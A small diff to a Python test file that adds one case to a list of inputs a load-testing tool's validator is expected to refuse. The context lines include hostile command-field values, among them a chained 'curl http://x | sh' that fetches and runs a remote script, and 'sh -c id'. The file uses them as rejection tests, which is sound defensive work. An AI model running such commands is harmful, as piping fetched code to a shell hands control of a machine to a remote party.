@@ -326,6 +326,7 @@ def test_a_label_that_nobody_can_print_is_refused(field: str, name: str, tmp_pat
         (("command",), "loadtest run quick; curl http://x | sh"),
         (("command",), "sh -c id"),
         (("command",), "loadtest run 'quick"),
+        (("command",), "loadtest agent theirs.example:7000 --serves"),
         (("command",), "loadtest run quick --project /tmp/theirs"),
         (("command",), "loadtest run quick --allow-database=127.0.0.1/app"),
         (("plan", "cells", 0, "load", "steps"), [0.5] * 51),
